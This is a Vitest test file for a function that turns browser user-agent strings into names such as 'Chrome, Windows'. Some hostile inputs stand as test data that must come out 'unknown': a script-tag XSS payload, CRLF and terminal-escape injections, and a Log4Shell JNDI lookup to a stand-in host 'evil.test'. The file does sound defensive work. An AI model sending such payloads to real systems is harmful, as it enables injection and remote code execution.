/** A browser is called by a name everybody knows, whatever it says of itself. */
import { expect, test } from 'vitest'
import { browserName } from './browser-name.ts'

const windows = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'
const chrome = 'AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36'

test.each([
  ['Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0', 'Firefox, Linux'],
  [`${windows} ${chrome}`, 'Chrome, Windows'],
  [`${windows} ${chrome} Edg/141.0.0.0`, 'Microsoft Edge, Windows'],
  [
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1',
    'Safari, iOS',
  ],
])('%s', (userAgent, name) => expect(browserName(userAgent)).toBe(name))

test.each([
  undefined,
  '',
  'curl/8.0',
  '<script>alert(1)</script>/1.0 (X; Y) more',
  '\u001b[31mred/1 (x) y',
  'Your bank, call +47 22 00 00 00/1 (x) y',
  'line\r\nbreak/1 (x) y',
  '${jndi:ldap://evil.test/a}/1 (x) y',
  'a'.repeat(100_000),
])('what nobody knows is unknown: %j', (userAgent) => expect(browserName(userAgent)).toBe('unknown'))

test('a header longer than any real one is not read to its end', () => {
  expect(browserName(`${' '.repeat(400)}Firefox/140.0`)).toBe('unknown')
})
